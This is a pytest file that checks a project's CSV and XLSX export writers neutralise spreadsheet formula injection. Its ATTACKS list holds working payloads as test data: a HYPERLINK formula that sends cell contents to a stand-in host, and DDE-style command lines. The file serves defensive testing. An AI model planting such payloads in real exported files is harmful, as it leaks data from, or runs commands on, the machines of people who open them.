"""Every CSV/XLSX writer neutralises formulas (issue 14: =HYPERLINK in a meter account id came out raw)."""

import csv
import io
import re

import pytest
from openpyxl import Workbook, load_workbook

from minesweep.core.exports import SafeCsvWriter, SafeDictWriter, neutral_cell, xlsx_append

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|x",
    "@SUM(1+1)",
    "\t=1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_it_neutralises_formula_text(attack):
    assert neutral_cell(attack) == "'" + attack


@pytest.mark.parametrize("plain", ["-12.5", "+86", "1e-3", "包头市", "", "a=b"])
def test_it_leaves_numbers_and_ordinary_text_alone(plain):
    assert neutral_cell(plain) == plain and neutral_cell(-3) == -3


def test_the_csv_writers_neutralise_every_cell():
    out = io.StringIO()
    SafeCsvWriter(out).writerow(ATTACKS)
    SafeDictWriter(out, fieldnames=["a"]).writerow({"a": ATTACKS[0]})
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert all(cell.startswith("'") for cell in rows[0]) and rows[1] == ["'" + ATTACKS[0]]


def test_the_xlsx_writer_stores_formula_text_as_text(tmp_path):
    book = Workbook()
    sheet = book.active
    xlsx_append(sheet, ["name", ATTACKS[0], 3])
    path = tmp_path / "x.xlsx"
    book.save(path)
    cell = load_workbook(path).active["B1"]
    assert cell.data_type == "s" and cell.value == ATTACKS[0]


def test_no_export_writes_csv_or_xlsx_around_the_safe_writers():
    """Every csv/openpyxl writer in the code goes through minesweep.core.exports, except the simulator's
    synthetic meter data (numbers and generated ids only)."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    allowed = {"core/exports.py", "detection/meter/simulate.py"}
    offenders = []
    for path in root.rglob("*.py"):
        relative = path.relative_to(root).as_posix()
        if "/tests/" in f"/{relative}" or relative in allowed:
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"csv\.(writer|DictWriter)\(|\b(ws|sheet)\.append\(", text):
            offenders.append(relative)
    assert offenders == []
